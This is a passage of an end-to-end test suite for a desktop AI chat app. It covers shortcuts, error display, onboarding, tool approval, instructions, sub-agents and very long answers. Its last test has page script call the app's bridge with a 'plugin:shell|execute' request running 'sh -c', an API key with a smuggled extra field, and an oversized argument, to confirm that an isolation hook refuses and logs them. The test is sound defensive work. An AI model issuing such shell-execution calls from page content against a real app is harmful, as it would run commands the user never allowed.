        .js(
            "return [...document.querySelectorAll('[data-testid=\"message\"][data-role=\"assistant\"] footer .model')]\
             .map(m => m.textContent.split(' · ')[0]);",
            vec![],
        )
        .await?;
    ensure!(footers == json!(["mock", "claude", "mock"]), "the profiles in the footers: {footers}");

    // Settings -> Providers: Test connection on the Claude profile says what works in one line.
    app.click(&tid("open-settings")).await?;
    app.wait_and_click(&tid("settings-nav-providers"), LONG).await?;
    app.wait_and_click(&tid("provider-test-claude"), LONG).await?;
    let summary = app
        .wait_for(
            "the test's one-line result",
            &format!(
                "const p = document.querySelector('{} {}'); return p ? [p.dataset.ok, p.textContent.trim()] : null;",
                tid("provider-test-result-claude"),
                tid("provider-test-summary")
            ),
            LONG,
        )
        .await?;
    ensure!(summary[0] == json!("true"), "the test failed: {summary}");
    ensure!(summary[1].as_str().is_some_and(|s| s.starts_with("Connected") && s.contains("takes tools")), "{summary}");
    app.screenshot("2-test-connection").await?;
    assert_not_blank(&app).await?;
    app.close().await?;
    Ok(())
}

// ----- k. the keyboard alone: the shortcut sheet, sending, queueing, stopping; the theme -----

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn k_keyboard_only_shortcuts_and_the_theme_switch() -> Result<()> {
    use fantoccini::key::Key;
    let long = "This answer streams slowly so it can be stopped. ".repeat(40);
    let replies = vec![
        slow(vec![Step::text(long), Step::finish("stop"), Step::Done], 3, 40),
        Reply::text("The queued question, answered."),
    ];
    let Some(rig) = rig("k_keys", replies).await? else { return Ok(()) };
    let app = rig.driver.launch("k").await?;
    app.wait_composer_ready(LONG).await?;
    app.click(&tid("composer-input")).await?;

    // Ctrl+/ opens the sheet; Esc closes it and gives focus back to the composer.
    app.keys(&(Key::Control + "/")).await?;
    app.wait_for(
        "the shortcut sheet",
        &format!("return document.querySelectorAll('{}').length > 5;", tid("shortcut-row")),
        LONG,
    )
    .await?;
    app.screenshot("1-shortcut-sheet").await?;
    app.keys(&(Key::Escape + "")).await?;
    app.wait_for("the sheet to close", &format!("return !document.querySelector('{}');", tid("shortcut-row")), LONG)
        .await?;
    ensure!(app.focused_testid().await?.as_deref() == Some("composer-input"), "focus went back to the composer");

    // Enter sends; typing goes on while the answer streams, and Enter then queues.
    app.keys(&format!("What is going on?{}", Key::Enter)).await?;
    app.wait_for("the answer to stream", &format!("return !!document.querySelector('{}');", tid("stop-button")), LONG)
        .await?;
    app.keys(&format!("And the next one{}", Key::Enter)).await?;
    app.wait_for("the queued message", &format!("return !!document.querySelector('{}');", tid("queued-message")), LONG)
        .await?;
    app.screenshot("2-queued-while-streaming").await?;
    // Ctrl+. stops the answer; the queued message goes once it has stopped.
    app.keys(&(Key::Control + ".")).await?;
    let statuses = app
        .wait_for(
            "the stopped answer and the queued one's answer",
            "const s = [...document.querySelectorAll('[data-testid=\"message\"][data-role=\"assistant\"]')].map(m => m.dataset.status); \
             return s.length === 2 && s[1] !== 'streaming' ? s : null;",
            LONG,
        )
        .await?;
    ensure!(statuses == json!(["cancelled", "complete"]), "Ctrl+. stops, then the queued message goes: {statuses}");
    let answers: Vec<String> =
        app.transcript().await?.iter().filter(|m| m.role == "assistant").map(ShownMessage::text).collect();
    ensure!(answers[1].contains("The queued question, answered."), "{answers:?}");
    ensure!(rig.mock.requests().len() == 2, "two requests, the queued one after the stop");

    // Ctrl+K searches, Ctrl+N starts a new chat with the composer focused.
    app.keys(&(Key::Control + "k")).await?;
    ensure!(app.focused_testid().await?.as_deref() == Some("search-input"), "Ctrl+K focuses the search");
    app.keys(&(Key::Control + "n")).await?;
    app.wait_for(
        "a new chat",
        "return document.querySelectorAll('[data-testid=\"message\"]').length === 0 && document.activeElement?.dataset.testid === 'composer-input';",
        LONG,
    )
    .await?;

    // Settings -> Appearance: the dark theme, zoom with Ctrl+= and back with Ctrl+0.
    app.keys(&(Key::Control + ",")).await?;
    app.wait_and_click(&tid("settings-nav-appearance"), LONG).await?;
    app.wait_and_click(&tid("theme-dark"), LONG).await?;
    app.wait_for("the dark theme", "return document.documentElement.dataset.theme === 'dark';", LONG).await?;
    app.keys(&(Key::Control + "=")).await?;
    app.wait_for(
        "110% zoom",
        &format!("return document.querySelector('{}')?.textContent === '110%';", tid("zoom-value")),
        LONG,
    )
    .await?;
    app.screenshot("3-dark-theme-zoomed").await?;
    app.keys(&(Key::Control + "0")).await?;
    app.wait_for(
        "100% zoom",
        &format!("return document.querySelector('{}')?.textContent === '100%';", tid("zoom-value")),
        LONG,
    )
    .await?;
    app.keys(&(Key::Escape + "")).await?;
    assert_not_blank(&app).await?;
    app.close().await?;
    Ok(())
}

// ----- l. a server that is down: one status line while retrying, then one error with its action --

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn l_a_server_that_is_down_says_so_once_with_what_to_do() -> Result<()> {
    let Some(pre) = Prereqs::require("l_down") else { return Ok(()) };
    let mock = MockServer::start(Script::new([])).await;
    let dead = {
        let l = std::net::TcpListener::bind("127.0.0.1:0")?;
        format!("http://{}/v1", l.local_addr()?)
    };
    let data = DataDir::new(&dead)?;
    data.open_store()?.set_setting("retry", &json!({"maxRetries": 3, "baseDelayMs": 400}))?;
    let driver = Driver::start(&pre, &data).await?;
    let rig = Rig { driver, data, mock };
    let app = rig.driver.launch("l").await?;
    app.send_message("Are you there?").await?;
    // While it retries: one status line that updates in place, never a pile of callouts.
    let lines = app
        .wait_for(
            "the retry status line",
            "const n = document.querySelectorAll('[data-testid=\"notice-retrying\"]'); return n.length ? n.length : null;",
            LONG,
        )
        .await?;
    ensure!(lines == json!(1), "{lines} retry lines");
    app.screenshot("1-retrying").await?;
    ensure!(wait_assistant_settled(&app, 1, LONG).await? == "error", "the answer did not end in an error");
    let shown = app
        .js(
            "const m = [...document.querySelectorAll('[data-testid=\"message\"][data-role=\"assistant\"]')].pop(); \
             return { retrying: m.querySelectorAll('[data-testid=\"notice-retrying\"]').length, \
                      alerts: m.querySelectorAll('[role=\"alert\"]').length, \
                      text: m.querySelector('.callout.error .callout-text')?.textContent ?? null, \
                      action: m.querySelector('[data-testid=\"error-action\"]')?.textContent ?? null, \
                      detail: !!m.querySelector('[data-testid=\"error-detail\"]') };",
            vec![],
        )
        .await?;
    ensure!(
        shown["retrying"] == json!(0) && shown["alerts"] == json!(1),
        "one error, no leftover retry lines: {shown}"
    );
    let text = shown["text"].as_str().unwrap_or_default();
    ensure!(text.starts_with("Couldn't connect to 127.0.0.1:") && text.contains("is the server running"), "{shown}");
    ensure!(!text.contains("os error"), "the transport's words are behind Details, not in the message: {shown}");
    ensure!(shown["action"] == json!("Open Providers") && shown["detail"] == json!(true), "{shown}");
    app.click(&format!("{} summary", tid("error-detail"))).await?;
    app.screenshot("2-error-with-details").await?;
    app.close().await?;
    Ok(())
}

// ----- m. a new user: no provider, then a preset, a test, an answer and a generated title -----

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn m_onboarding_with_a_preset_test_connection_and_a_titled_first_chat() -> Result<()> {
    use fantoccini::Locator;
    let Some(pre) = Prereqs::require("m_onboarding") else { return Ok(()) };
    let mock = MockServer::start(Script::new([
        // Test connection's tiny request, right after saving.
        Reply::text("OK"),
        Reply::text("Hello from the server on this machine."),
        // The new chat's title, written by its model.
        Reply::text("\"Greeting the local server.\""),
    ]))
    .await;
    let data = DataDir::empty()?;
    let driver = Driver::start(&pre, &data).await?;
    let rig = Rig { driver, data, mock };
    let app = rig.driver.launch("m").await?;

    // No provider: the composer says so and offers to add one; sending creates nothing.
    app.wait_for(
        "the no-provider notice",
        &format!("return !!document.querySelector('{}');", tid("no-provider")),
        LONG,
    )
    .await?;
    app.screenshot("1-no-provider").await?;
    app.click(&tid("composer-input")).await?;
    app.keys(&format!("Hi{}", fantoccini::key::Key::Enter)).await?;
    tokio::time::sleep(Duration::from_millis(300)).await;
    let answers = app.js("return document.querySelectorAll('[data-testid=\"message\"]').length;", vec![]).await?;
    ensure!(answers == json!(0), "nothing is sent without a provider ({answers} messages)");

    // Add a provider -> the vLLM preset, pointed at the mock, with a model; saving tests it.
    app.click(&tid("composer-add-provider")).await?;
    app.wait_for(
        "the providers section",
        &format!("return !!document.querySelector('{}');", tid("settings-section-providers")),
        LONG,
    )
    .await?;
    if app.js(&format!("return !document.querySelector('{}');", tid("provider-form")), vec![]).await? == json!(true) {
        app.click(&tid("provider-add")).await?;
    }
    app.wait_and_click(&tid("provider-preset-vllm"), LONG).await?;
    let url = app.client().find(Locator::Css(&tid("provider-base-url"))).await?;
    ensure!(url.prop("value").await?.as_deref() == Some("http://localhost:8000/v1"), "the preset filled the address");
    url.clear().await?;
    url.send_keys(&rig.mock.base_url()).await?;
    let model = app.client().find(Locator::Css(&tid("provider-model"))).await?;
    model.send_keys("mock-model").await?;
    app.screenshot("2-preset-filled").await?;
    app.click(&tid("provider-save")).await?;
    let summary = app
        .wait_for(
            "the automatic connection test",
            &format!(
                "const p = document.querySelector('{} {}'); return p ? [p.dataset.ok, p.textContent.trim()] : null;",
                tid("provider-test-result-vllm"),
                tid("provider-test-summary")
            ),
            LONG,
        )
        .await?;
    ensure!(summary[0] == json!("true"), "the new profile's test: {summary}");
    app.screenshot("3-tested").await?;
    app.click(&tid("close-settings")).await?;

    // The first chat answers, then is named by its model.
    app.send_message("Hello, are you the local one?").await?;
    ensure!(wait_assistant_settled(&app, 1, LONG).await? == "complete", "the first answer did not complete");
    app.wait_for(
        "the generated title in the list",
        "return [...document.querySelectorAll('[data-testid=\"conversation-item\"]')].some(c => c.textContent.includes('Greeting the local server'));",
        LONG,
    )
    .await?;
    app.screenshot("4-first-chat-titled").await?;
    ensure!(rig.mock.requests().len() == 3, "test, answer, title: {} requests", rig.mock.requests().len());
    app.close().await?;
    Ok(())
}

/// Processes of the MCP server started with `marker` among its arguments (pid, state, command).
fn server_processes(marker: &str) -> Vec<String> {
    let Ok(entries) = std::fs::read_dir("/proc") else { return Vec::new() };
    entries
        .flatten()
        .filter(|e| e.file_name().to_str().is_some_and(|n| n.bytes().all(|b| b.is_ascii_digit())))
        .filter_map(|e| {
            let cmdline = String::from_utf8_lossy(&std::fs::read(e.path().join("cmdline")).ok()?).replace('\0', " ");
            let stat = std::fs::read_to_string(e.path().join("stat")).ok()?;
            (cmdline.contains("mcp-server-everything") && cmdline.contains(marker))
                .then(|| format!("{stat} :: {cmdline}"))
        })
        .collect()
}

// ----- n. tools the person defined: Settings → Your tools, Try it, and a call in a chat -------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn n_tools_you_define_are_listed_tried_and_called() -> Result<()> {
    let Some(pre) = Prereqs::require("n_defined") else { return Ok(()) };
    // A status API on this computer (the tool allows local addresses).
    let api = axum::Router::new().route(
        "/v1/status/{component}",
        axum::routing::get(|axum::extract::Path(component): axum::extract::Path<String>| async move {
            axum::Json(json!({ "data": { "component": component, "status": "operational" }, "served_by": "local" }))
        }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
    let api_addr = listener.local_addr()?;
    tokio::spawn(async move { axum::serve(listener, api).await });

    let mock = MockServer::start(Script::new(vec![
        Reply::tool_call("call_status", "service_status", r#"{"component":"search api"}"#),
        Reply::text("The search API is operational."),
    ]))
    .await;
    let data = DataDir::new(&mock.base_url())?;
    // As written in tools.json by hand: a keyless HTTP tool (offered at once) and a command tool,
    // which waits until the person allows its command line in a native dialog.
    let file = json!({
        "httpTools": [{
            "name": "service_status",
            "description": "The status of one of our services.",
            "url": format!("http://{api_addr}/v1/status/{{{{component}}}}"),
            "responsePointer": "/data",
            "allowLocalAddresses": true
        }],
        "commandTools": [{
            "name": "grep_notes",
            "description": "Searches my notes.",
            "argv": ["grep", "-n", "--", "{{pattern}}", "notes.txt"]
        }]
    });
    std::fs::write(data.path().join("tools.json"), serde_json::to_string_pretty(&file)?)?;
    let driver = Driver::start(&pre, &data).await?;
    let rig = Rig { driver, data, mock };
    let app = rig.driver.launch("n").await?;

    app.click(&tid("open-settings")).await?;
    app.wait_and_click(&tid("settings-nav-defined"), LONG).await?;
    let row = |name: &str, state: &str| {
        format!(
            "return !!document.querySelector('{}[data-name=\"{name}\"][data-state=\"{state}\"]');",
            tid("defined-tool")
        )
    };
    app.wait_for("the HTTP tool, ready", &row("service_status", "ready"), LONG).await?;
    app.wait_for("the command tool, waiting for approval", &row("grep_notes", "needsApproval"), LONG).await?;
    app.screenshot("1-your-tools").await?;

    // Try it: the exact request and the API's answer (the pointer's part).
    app.click(&tid("defined-try-service_status")).await?;
    app.wait_for("the try panel", &format!("return !!document.querySelector('{}');", tid("try-args")), LONG).await?;
    app.js(
        &format!(
            "const t = document.querySelector('{}'); t.value = '{{\"component\": \"search api\"}}'; \
             t.dispatchEvent(new Event('input', {{ bubbles: true }})); return true;",
            tid("try-args")
        ),
        vec![],
    )
    .await?;
    app.click(&tid("try-run")).await?;
    let answer = app
        .wait_for(
            "the try-it answer",
            &format!("const r = document.querySelector('{}'); return r && r.textContent.includes('operational') ? r.textContent : null;", tid("try-response")),
            LONG,
        )
        .await?;
    let request =
        app.js(&format!("return document.querySelector('{}').textContent;", tid("try-request")), vec![]).await?;
    ensure!(
        request.as_str().is_some_and(|r| r.contains(&format!("GET http://{api_addr}/v1/status/search%20api"))),
        "the exact request: {request}"
    );
    ensure!(!answer.to_string().contains("served_by"), "only the pointer's part: {answer}");
    app.screenshot("2-try-it").await?;
    app.click(&tid("close-settings")).await?;

    // In a chat the model calls it like any tool: GET runs without asking, the card names its source.
    app.send_message("Is the search API up?").await?;
    let status = wait_assistant_settled(&app, 1, LONG).await?;
    ensure!(status == "complete", "the answer ended as {status}");
    let card = app
        .js(
            &format!(
                "const c = document.querySelector('{}[data-tool-name=\"service_status\"]'); \
                 return c ? [c.dataset.status, c.querySelector('.source')?.textContent] : null;",
                tid("tool-card")
            ),
            vec![],
        )
        .await?;
    ensure!(card == json!(["ok", "HTTP"]), "the card: {card}");
    let requests = rig.mock.requests();
    ensure!(requests.len() == 2, "the mock got {} requests", requests.len());
    let offered: Vec<String> = requests[0].body["tools"]
        .as_array()
        .map(|t| t.iter().filter_map(|t| t["function"]["name"].as_str().map(str::to_owned)).collect())
        .unwrap_or_default();
    ensure!(
        offered.contains(&"service_status".to_owned()) && !offered.contains(&"grep_notes".to_owned()),
        "the HTTP tool is offered, the command tool not before it is allowed: {offered:?}"
    );
    app.screenshot("3-http-tool-card").await?;
    assert_not_blank(&app).await?;
    app.close().await?;
    Ok(())
}

// ----- o. instructions: the custom ones in Settings, a chat's own from its menu ---------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn o_custom_and_chat_instructions_reach_the_model() -> Result<()> {
    let Some(rig) = rig("o_instructions", vec![Reply::text("Hi Sam."), Reply::text("Bonjour Sam.")]).await? else {
        return Ok(());
    };
    let app = rig.driver.launch("o").await?;

    // Settings → Chats: custom instructions, saved when the field is left.
    app.click(&tid("open-settings")).await?;
    app.wait_and_click(&tid("settings-nav-chats"), LONG).await?;
    app.wait_and_click(&tid("chats-instructions"), LONG).await?;
    app.keys("Call me Sam.").await?;
    // Leaving the field (a click elsewhere in the section) saves it.
    app.click(&tid("chat-titles-firstLine")).await?;
    app.wait_for(
        "the custom instructions to be saved",
        &format!(
            "const card = document.querySelector('{}').closest('.card'); return !!card.querySelector('{}');",
            tid("chats-instructions"),
            tid("saved-note")
        ),
        LONG,
    )
    .await?;
    app.screenshot("1-custom-instructions").await?;
    app.click(&tid("close-settings")).await?;

    app.send_message("hello").await?;
    ensure!(wait_assistant_settled(&app, 1, LONG).await? == "complete", "the first answer failed");

    // The chat's menu → Instructions…: the custom ones and what was sent; add the chat's own.
    app.click(&tid("chat-menu")).await?;
    app.wait_and_click(&tid("chat-menu-instructions"), LONG).await?;
    app.wait_for(
        "the instructions dialog with what was sent",
        &format!(
            "const s = document.querySelector('{}'); return s && s.textContent === 'Call me Sam.' ? true : null;",
            tid("chat-instructions-last-sent")
        ),
        LONG,
    )
    .await?;
    // The dialog opens with its text field focused.
    let focused = app.js("const a = document.activeElement; return a ? a.tagName + '#' + a.id + ' ' + (a.dataset.testid || '') : null;", vec![]).await?;
    ensure!(
        app.focused_testid().await?.as_deref() == Some("chat-instructions-text"),
        "focus is not on the instructions field but on {focused}"
    );
    app.keys("Answer in French.").await?;
    app.screenshot("2-chat-instructions").await?;
    app.click(&tid("chat-instructions-save")).await?;
    app.wait_for(
        "the dialog to close",
        &format!("return !document.querySelector('{}');", tid("chat-instructions-dialog")),
        LONG,
    )
    .await?;

    // The parameters dialog beside it takes focus too (both live outside the inert layout).
    app.click(&tid("chat-menu")).await?;
    app.wait_and_click(&tid("chat-menu-params"), LONG).await?;
    app.wait_for(
        "the parameters dialog",
        &format!("return !!document.querySelector('{}');", tid("chat-params-dialog")),
        LONG,
    )
    .await?;
    ensure!(
        app.focused_testid().await?.as_deref() == Some("chat-params-temperature"),
        "focus is not in the parameters dialog"
    );
    app.keys("\u{e00c}").await?; // Escape
    app.wait_for(
        "the parameters dialog to close",
        &format!("return !document.querySelector('{}');", tid("chat-params-dialog")),
        LONG,
    )
    .await?;

    app.send_message("and now?").await?;
    ensure!(wait_assistant_settled(&app, 2, LONG).await? == "complete", "the second answer failed");
    let requests = rig.mock.requests();
    ensure!(requests.len() == 2, "the mock got {} requests", requests.len());
    let system = |i: usize| requests[i].messages()[0]["content"].as_str().unwrap_or_default().to_owned();
    ensure!(system(0) == "Call me Sam.", "first request's system prompt: {:?}", system(0));
    ensure!(system(1) == "Call me Sam.\n\nAnswer in French.", "second request's system prompt: {:?}", system(1));
    app.screenshot("3-answered").await?;
    assert_not_blank(&app).await?;
    app.close().await?;
    Ok(())
}

// ----- p. an agent hands work to two sub-agents; their progress nests live and after a restart -

/// The lead's first answer: a sentence, then the same scout twice, in parallel.
const P_BEFORE: &str = "Two scouts are on it. ";

/// Each agent card's runs as the page shows them: instance, status, its own tool cards, its text.
const P_RUNS_JS: &str = "return [...document.querySelectorAll('[data-testid=\"tool-card\"][data-tool-name=\"agent__Scout\"]')].map(card => \
     [...card.querySelectorAll('[data-testid=\"agent-run\"]')].map(r => ({ instance: r.dataset.instance, status: r.dataset.status, \
       tools: [...r.querySelectorAll('[data-testid=\"tool-card\"]')].map(c => c.dataset.toolName + ':' + c.dataset.status), \
       text: (r.querySelector('[data-testid=\"agent-run-text\"]') || {}).textContent || '' })));";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn p_an_agent_runs_two_sub_agents_whose_progress_nests_live_and_after_a_restart() -> Result<()> {
    let lead = vec![
        slow(
            vec![
                Step::text(P_BEFORE),
                Step::tool_call("c1", "agent__Scout", r#"{"message":"What time is it in Lyon?"}"#),
                Step::tool_call("c2", "agent__Scout", r#"{"message":"What time is it in Rome?"}"#),
                Step::finish("tool_calls"),
                Step::usage(40, 12),
                Step::Done,
            ],
            4,
            20,
        ),
        Reply::text("Both scouts answered: it is the same time in Lyon and Rome."),
    ];
    let Some(rig) = rig("p_agents", lead).await? else { return Ok(()) };
    // The scouts' own model: the echo server calls get_time for a question about the time, then
    // quotes it, slowly enough to watch.
    let scouts = MockServer::start(Script::echo().with_chunk_delay(60)).await;
    rig.data.add_provider("scouts", &scouts.base_url(), "scout-model")?;
    let agents = json!({
        "toolsets": [
            { "name": "scouting", "tools": ["agent:Scout"] },
            { "name": "clock", "tools": ["get_time"] }
        ],
        "agents": [
            { "name": "Scout", "description": "Finds one fact.", "profile": "scouts", "toolsets": ["clock"] },
            { "name": "Lead", "description": "Hands questions to scouts.", "instructions": "Delegate.", "profile": "mock", "toolsets": ["scouting"] }
        ]
    });
    std::fs::write(rig.data.path().join("agents.json"), serde_json::to_string_pretty(&agents)?)?;

    let app = rig.driver.launch("p").await?;
    // A new chat with the agent Lead (the picker in the composer's bar).
    app.wait_for("the agent picker", &format!("return !!document.querySelector('{}');", tid("agent-picker")), LONG)
        .await?;
    app.js(
        &format!(
            "const s = document.querySelector('{}'); s.value = 'Lead'; s.dispatchEvent(new Event('change', {{ bubbles: true }})); return true;",
            tid("agent-picker")
        ),
        vec![],
    )
    .await?;
    app.screenshot("1-agent-picked").await?;
    app.send_message("What time is it in Lyon and in Rome?").await?;

    // Live: both scouts' runs stream inside the lead's calls, open while they work.
    app.wait_for(
        "two sub-agent runs streaming",
        "const runs = [...document.querySelectorAll('[data-testid=\"agent-run\"]')]; \
         return runs.length === 2 && runs.some(r => r.dataset.status === 'streaming' && r.querySelector('button[aria-expanded=\"true\"]')) ? true : null;",
        LONG,
    )
    .await?;
    app.screenshot("2-live-nested").await?;
    ensure!(wait_assistant_settled(&app, 1, LONG).await? == "complete", "the lead's answer failed");
    let live: Value = app.js(P_RUNS_JS, vec![]).await?;
    let cards = live.as_array().context("no agent cards")?;
    ensure!(cards.len() == 2, "expected two agent__Scout cards: {live}");
    let mut instances: Vec<&str> = cards.iter().filter_map(|c| c[0]["instance"].as_str()).collect();
    instances.sort_unstable();
    ensure!(instances == ["Scout[1]", "Scout[2]"], "the parallel calls are not numbered: {live}");
    for card in cards {
        let run = &card[0];
        ensure!(run["status"] == "complete", "a scout did not finish: {run}");
        ensure!(run["tools"] == json!(["get_time:ok"]), "a scout's own tool card is missing: {run}");
        ensure!(run["text"].as_str().unwrap_or_default().starts_with("get_time returned:"), "a scout's answer: {run}");
    }
    ensure!(scouts.requests().len() == 4, "each scout made two requests: {}", scouts.requests().len());
    // Open one card and its run to look at it.
    app.click(&format!("{} button.head", tid("tool-card"))).await?;
    app.click(&format!("{} {} button.head", tid("tool-card"), tid("agent-run"))).await?;
    app.screenshot("3-done-opened").await?;
    let transcript = app.transcript().await?;
    app.close().await?;

    // After a restart the same runs come back from the store, and the chat names its agent.
    let app = rig.driver.launch("p").await?;
    app.wait_and_click(&format!("{} button.open", tid("conversation-item")), LONG).await?;
    app.wait_for(
        "the reopened agent cards",
        "return document.querySelectorAll('[data-testid=\"agent-run\"]').length === 2 ? true : null;",
        LONG,
    )
    .await?;
    let reopened: Value = app.js(P_RUNS_JS, vec![]).await?;
    ensure!(reopened == live, "the nested runs differ after a restart:\nlive: {live}\nreopened: {reopened}");
    ensure!(app.transcript().await? == transcript, "the reopened conversation differs from the live one");
    let chip = app
        .js(
            &format!(
                "const c = document.querySelector('{}'); return c ? c.textContent.trim() : null;",
                tid("agent-chip")
            ),
            vec![],
        )
        .await?;
    ensure!(chip == json!("Lead"), "the chat does not name its agent: {chip}");
    app.click(&format!("{} button.head", tid("tool-card"))).await?;
    app.screenshot("4-reopened").await?;

    // Settings → Agents lists both, with their toolsets.
    app.click(&tid("open-settings")).await?;
    app.wait_and_click(&tid("settings-nav-agents"), LONG).await?;
    app.wait_for(
        "the agents",
        &format!("return document.querySelectorAll('{}').length === 2 ? true : null;", tid("agent-row")),
        LONG,
    )
    .await?;
    app.screenshot("5-settings-agents").await?;

    // Add an agent from the form: a name, instructions, a toolset.
    app.click(&tid("agents-add")).await?;
    app.wait_and_click(&tid("agent-name"), LONG).await?;
    app.keys("Helper").await?;
    app.click(&tid("agent-instructions")).await?;
    app.keys("Be brief.").await?;
    app.click(&format!("{}[value=\"clock\"]", tid("agent-toolset"))).await?;
    app.screenshot("6-agent-form").await?;
    app.click(&tid("agent-save")).await?;
    app.wait_for(
        "the new agent",
        &format!("return document.querySelectorAll('{}').length === 3 ? true : null;", tid("agent-row")),
        LONG,
    )
    .await?;
    let saved: Value = serde_json::from_str(&std::fs::read_to_string(rig.data.path().join("agents.json"))?)?;
    ensure!(
        saved["agents"][2] == json!({ "name": "Helper", "instructions": "Be brief.", "toolsets": ["clock"] }),
        "the saved agent: {}",
        saved["agents"][2]
    );
    assert_not_blank(&app).await?;
    app.close().await?;
    Ok(())
}

// ----- q. a pathological answer (a 1 MiB line with no break) is shown in full, live and reopened

/// One line of 1 MiB with no space, hyphen or any other break opportunity.
fn unbreakable_line() -> String {
    "abcdefghijklmnopqrstuvwxyz0123456789".chars().cycle().take(1 << 20).collect()
}

/// The number of characters of the last assistant answer's text in its rendered blocks (a note the
/// app adds about the shape of the text is not part of the answer), and how long that took in the
/// page. `textContent`: the app lays out only the chunks of a huge text near the screen.
const Q_SHOWN_JS: &str = "const ms = document.querySelectorAll('[data-testid=\"message\"][data-role=\"assistant\"]'); \
     const m = ms[ms.length - 1]; if (!m) return null; const t0 = performance.now(); let n = 0; \
     for (const md of m.querySelectorAll('[data-testid=\"message-text\"]')) { \
       for (const el of md.children) if (!el.matches('.plain-note')) n += el.textContent.length; } \
     return { n, status: m.dataset.status, ms: Math.round(performance.now() - t0) };";

async fn q_wait_shown(app: &App, what: &str, len: usize, timeout: Duration) -> Result<Duration> {
    let start = Instant::now();
    let mut last = Value::Null;
    while start.elapsed() < timeout {
        last = app.js(Q_SHOWN_JS, vec![]).await?;
        if last["n"].as_u64() == Some(len as u64) && last["status"] != "streaming" {
            return Ok(start.elapsed());
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let shot = app.screenshot("timeout").await.map(|p| p.display().to_string()).unwrap_or_default();
    anyhow::bail!("{what}: not fully shown after {timeout:?}: {last} of {len} characters (screenshot {shot})")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn q_a_one_mebibyte_line_is_shown_in_full_live_and_reopened() -> Result<()> {
    // Before: the reveal put 2,000 characters on screen per frame (525 frames, each walking the
    // whole text) and WebKit laid every chunk out again: 16 s here, minutes on slower machines.
    let line = unbreakable_line();
    let replies =
        vec![slow(vec![Step::text(line.clone()), Step::finish("stop"), Step::usage(5, 300_000), Step::Done], 4096, 2)];
    let Some(rig) = rig("q_huge_line", replies).await? else { return Ok(()) };
    let app = rig.driver.launch("q").await?;
    app.send_message("Print the dump").await?;
    // Before the fix: 16 s here (and minutes on a slower machine).
    let took = q_wait_shown(&app, "the streamed answer", line.len(), Duration::from_secs(8)).await?;
    println!("streamed 1 MiB line shown in full {took:?} after the send");
    ensure!(wait_assistant_settled(&app, 1, LONG).await? == "complete", "the answer failed");
    app.screenshot("1-live").await?;
    assert_not_blank(&app).await?;
    app.close().await?;

    let app = rig.driver.launch("q").await?;
    let start = Instant::now();
    app.wait_and_click(&format!("{} button.open", tid("conversation-item")), LONG).await?;
    let took = q_wait_shown(&app, "the reopened answer", line.len(), Duration::from_secs(8)).await?;
    println!("reopened 1 MiB line shown in full {:?} after the click", start.elapsed().max(took));
    app.screenshot("2-reopened").await?;
    assert_not_blank(&app).await?;
    app.close().await?;

    // Other shapes, reopened from history: 1 MiB of combining marks (WebKit took 7 s to lay it
    // out in the monospace font), a 1 MiB code block, 10,000 one-character lines.
    let shapes = [
        ("marks", "\u{301}".repeat(1 << 20)),
        ("code", format!("```\n{}```", "let x = 1234567890; // a line of code, and words\n".repeat(20_000))),
        ("lines", "x\n".repeat(10_000)),
    ];
    {
        use switchboard_core::{ChatEvent, EventSink, FinishReason, Usage};
        let store = rig.data.open_store()?;
        for (question, text) in &shapes {
            let rows = store.begin_turn(None, question, "mock", "mock-model")?;
            let rec = store.recorder(&rows.message_id);
            rec.emit(ChatEvent::TextDelta { text: text.clone() });
            rec.emit(ChatEvent::Done {
                finish_reason: FinishReason::Stop,
                usage: Usage::default(),
                tool_calls_made: 0,
            });
        }
    }
    let app = rig.driver.launch("q").await?;
    for (question, text) in &shapes {
        let open = format!(
            "const b = [...document.querySelectorAll('{}')].find((e) => e.innerText.includes({})); if (!b) return false; b.querySelector('button.open').click(); return true;",
            tid("conversation-item"),
            js_str(question)
        );
        app.wait_for(
            &format!("the conversation {question} in the list"),
            &open.replace("b.querySelector('button.open').click(); ", ""),
            LONG,
        )
        .await?;
        let start = Instant::now();
        app.js(&open, vec![]).await?;
        // The rendered text of Markdown is not its source: wait for the answer to be on screen,
        // then for the page to answer (a long layout blocks it).
        let shown = format!(
            "const u = document.querySelector('[data-testid=\"message\"][data-role=\"user\"]'); \
             const a = document.querySelectorAll('[data-testid=\"message\"][data-role=\"assistant\"] [data-testid=\"message-text\"]'); \
             return !!u && u.innerText.trim() === {} && a.length === 1 && a[0].textContent.length > 1000;",
            js_str(question)
        );
        app.wait_for("the reopened answer", &shown, Duration::from_secs(8)).await?;
        app.painted().await?;
        let took = start.elapsed();
        println!("reopened {question} ({} UTF-16 units) on screen in {took:?}", text.encode_utf16().count());
        ensure!(took < Duration::from_secs(4), "{question}: {took:?} to show a reopened answer");
        app.screenshot(&format!("3-{question}")).await?;
    }
    assert_not_blank(&app).await?;
    app.close().await?;
    Ok(())
}

// ----- r. a script in the page meets the isolation hook: refused calls fail and leave a trace --

/// Calls `invoke(cmd, args)` from the page as any script could, and returns how it ended.
const R_INVOKE_JS: &str = "const [cmd, args, done] = arguments; \
     window.__TAURI_INTERNALS__.invoke(cmd, args).then( \
       (v) => done({ ok: true, value: JSON.stringify(v).slice(0, 200) }), \
       (e) => done({ ok: false, error: typeof e === 'string' ? e : JSON.stringify(e) }));";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn r_calls_the_isolation_hook_refuses_fail_and_are_logged_without_their_arguments() -> Result<()> {
    let Some(rig) = rig("r_refused", vec![Reply::text("Still here.")]).await? else { return Ok(()) };
    let app = rig.driver.launch("r").await?;
    const SECRET: &str = "hunter2-SECRET-never-logged";
    let calls = [
        // Not a command of the app (and not in its capability).
        ("plugin:shell|execute", json!({ "program": "sh", "args": ["-c", SECRET] }), "not a command of this app"),
        // A key the command does not read, next to a secret.
        ("set_key", json!({ "name": "openai", "value": SECRET, "header": SECRET }), "unexpected argument `header`"),
        // An oversized argument.
        ("search_conversations", json!({ "query": format!("{SECRET}{}", "x".repeat(3 << 20)) }), "longer than"),
    ];
    for (cmd, args, why) in &calls {
        let v = app.js_async(R_INVOKE_JS, vec![json!(cmd), args.clone()]).await?;
